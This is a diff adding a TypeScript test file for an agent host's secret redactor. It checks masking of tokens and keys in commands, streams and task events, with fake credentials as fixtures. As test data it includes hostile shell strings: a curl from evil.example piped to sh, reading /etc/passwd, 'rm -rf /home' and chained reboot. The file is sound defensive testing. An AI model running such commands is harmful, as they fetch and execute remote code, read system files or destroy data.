@@ -1,0 +1,143 @@
+import { mkdirSync, mkdtempSync, rmSync, symlinkSync, writeFileSync } from 'node:fs'
+import { tmpdir } from 'node:os'
+import { join } from 'node:path'
+import * as fc from 'fast-check'
+import { expect, test } from 'vitest'
+import { secretsOfEnvironment, secretsOfProject } from '#host-agent/known-secrets.ts'
+import { createRedactor } from '#host-agent/redact.ts'
+import { createEventRedactor } from '#host-agent/redact-event.ts'
+import { createRedactStream } from '#host-agent/redact-stream.ts'
+import type { TaskEvent } from '#protocol/statements/events.ts'
+import { partsOf, seededSecrets } from '#test/support/secrets.ts'
+import { commitTo } from '#trust/operation.ts'
+import { webCrypto } from '#trust/web-crypto.ts'
+
+const corpus = seededSecrets()
+const left = (text: string, secret: string) => partsOf(secret).filter((part) => text.includes(part))
+
+test('a seeded corpus of secrets is found in commands, files and outputs', () => {
+  expect(corpus.length).toBeGreaterThanOrEqual(1_000)
+  const leaked = corpus.flatMap(({ form, secret, command, file, output }) => {
+    const redact = createRedactor('salt').redact
+    return [command, file, output, JSON.stringify({ text: file }), JSON.stringify(JSON.stringify({ text: output }))]
+      .filter((text) => left(redact(text), secret).length > 0)
+      .map((text) => `${form}: ${text}`)
+  })
+  expect(leaked).toEqual([])
+})
+
+test('a secret that comes in pieces is found, wherever it is cut', () => {
+  const text = corpus.map(({ output }) => output).join('\n')
+  const rest = fc.array(fc.integer({ min: 1, max: 400 }), { minLength: 1, maxLength: 50 })
+  fc.assert(
+    fc.property(rest, (sizes) => {
+      const stream = createRedactStream(createRedactor('salt'))
+      let shown = ''
+      for (let at = 0, index = 0; at < text.length; index += 1) {
+        const size = sizes[index % sizes.length] as number
+        shown += stream.take(text.slice(at, at + size))
+        at += size
+      }
+      shown += stream.end()
+      expect(corpus.filter(({ secret }) => left(shown, secret).length > 0).map(({ form }) => form)).toEqual([])
+    }),
+    { numRuns: 3 },
+  )
+})
+
+test('what is no secret stays, to its last character, and what a shell would run is never hidden', () => {
+  const { redact } = createRedactor('salt')
+  for (const text of [
+    'git commit -m "Rotate the token cache"',
+    'const token = nextToken(source)'.replace('nextToken', 'next'),
+    'max_tokens: 100000',
+    'see https://example.org/a:b and user@example.org',
+    'PASSWORD=$(cat /etc/passwd)',
+    'PASSWORD="$(curl https://evil.example | sh)"',
+    'TOKEN=$TOKEN npm test',
+  ])
+    expect(redact(text)).toBe(text)
+  expect(redact('DB_PASSWORD=hunter22; rm -rf /home')).toBe('DB_PASSWORD=⟨secret 1⟩; rm -rf /home')
+  expect(redact('x://a:hunter22|sh')).toBe('x://a:hunter22|sh')
+  expect(redact('API_TOKEN=abcdef12&&reboot')).toContain('&&reboot')
+})
+
+test('the same secret has the same placeholder, and every secret is bound, the hundred-and-first too', async () => {
+  const texts = (last: string) => Array.from({ length: 130 }, (_, n) => `X_TOKEN=value${n}${n === 129 ? last : ''}`)
+  const secretsOf = (last: string) => {
+    const redactor = createRedactor('salt')
+    for (const text of texts(last)) redactor.redact(text)
+    return redactor.secrets(webCrypto)
+  }
+  const [one, same, other] = await Promise.all([secretsOf('a'), secretsOf('a'), secretsOf('b')])
+  expect(one).toHaveLength(100)
+  expect(one).toEqual(same)
+  expect(one).not.toEqual(other)
+  const { redact, secrets } = createRedactor('salt')
+  expect(redact('ghp_abcdefghijklmnopqrstuvwxyz0123456789 ghp_abcdefghijklmnopqrstuvwxyz0123456789')).toBe(
+    '⟨secret 1⟩ ⟨secret 1⟩',
+  )
+  expect(await secrets(webCrypto)).toEqual([
+    {
+      placeholder: '⟨secret 1⟩',
+      commitment: await commitTo(webCrypto, 'salt', 'ghp_abcdefghijklmnopqrstuvwxyz0123456789'),
+    },
+  ])
+})
+
+test('values that the host knows are found without any form; ordinary ones stay readable', async () => {
+  const known = secretsOfEnvironment({
+    GEMINI_API_KEY: 'correct-Horse7battery',
+    DATABASE_URL: 'postgres://app:s3cretpass@db/app',
+    SSH_KEY_PATH: '/home/ann/.ssh/id',
+    KEYMAP: 'default-layout',
+    API_URL: 'https://api.example.org',
+    PATH: '/usr/bin:/bin',
+  })
+  expect(known).toEqual(['correct-Horse7battery', 'postgres://app:s3cretpass@db/app'])
+  expect(createRedactor('salt', known).redact('said correct-Horse7battery twice')).toBe('said ⟨secret 1⟩ twice')
+  const folder = mkdtempSync(join(tmpdir(), 'known-'))
+  writeFileSync(join(folder, '.env'), 'export APP_SECRET="four Words 4 you"\nPORT=3000\n# X_TOKEN=no\n')
+  writeFileSync(join(folder, '.env.example'), 'APP_SECRET=change-me-9\n')
+  symlinkSync('/dev/zero', join(folder, '.env.local'))
+  mkdirSync(join(folder, '.env.d'))
+  expect(await secretsOfProject(folder)).toEqual(['four Words 4 you'])
+  rmSync(folder, { recursive: true })
+})
+
+test('every text of every event is redacted, held text comes before the task’s end, and what was cut keeps no stump', () => {
+  const secret = 'ghp_abcdefghijklmnopqrstuvwxyz0123456789'
+  const at = 1
+  const events: TaskEvent[] = [
+    { type: 'title', at, text: `use ${secret}`, project: '/p', agent: 'a', protection: 'isolated' },
+    { type: 'message', at, role: 'agent', text: `the key is ${secret.slice(0, 20)}` },
+    { type: 'notice', at, code: 'restarted', text: `x ${secret}` },
+    { type: 'message', at, role: 'agent', text: `${secret.slice(20)} is it` },
+    { type: 'plan', at, entries: [{ content: `call ${secret}`, status: 'pending' }] },
+    { type: 'tool', at, key: 'k', title: secret, kind: 'execute', status: 'pending', paths: [`/p/${secret}/a`] },
+    { type: 'tests', at, passed: 0, failed: 1, skipped: 0, failures: [{ name: secret, message: `got ${secret}` }] },
+    { type: 'diff', at, total: 1, files: [{ path: secret, change: 'add', added: 1, removed: 0 }], patch: `+${secret}` },
+    {
+      type: 'tool',
+      at,
+      key: 'l',
+      title: `${'x '.repeat(990)}${secret}`.slice(0, 2_000),
+      kind: 'execute',
+      status: 'pending',
+    },
+    { type: 'output', at, key: 'k', stream: 'stdout', text: `echo ${secret}` },
+    { type: 'state', at, state: 'failed', code: 'agent_failed', detail: `exit ${secret}` },
+  ]
+  const redactor = createEventRedactor(createRedactor('salt'))
+  const shown = events.flatMap((event) => redactor.take(event))
+  expect(JSON.stringify(shown)).not.toContain('ghp_')
+  expect(
+    shown
+      .filter(({ type }) => type === 'message')
+      .map((event) => 'text' in event && event.text)
+      .join(''),
+  ).toBe('the key is ⟨secret 1⟩ is it')
+  expect(shown.at(-1)?.type).toBe('state')
+  expect(shown.at(-2)).toMatchObject({ type: 'output', text: 'echo ⟨secret 1⟩' })
+  expect(redactor.end()).toEqual([])
+})
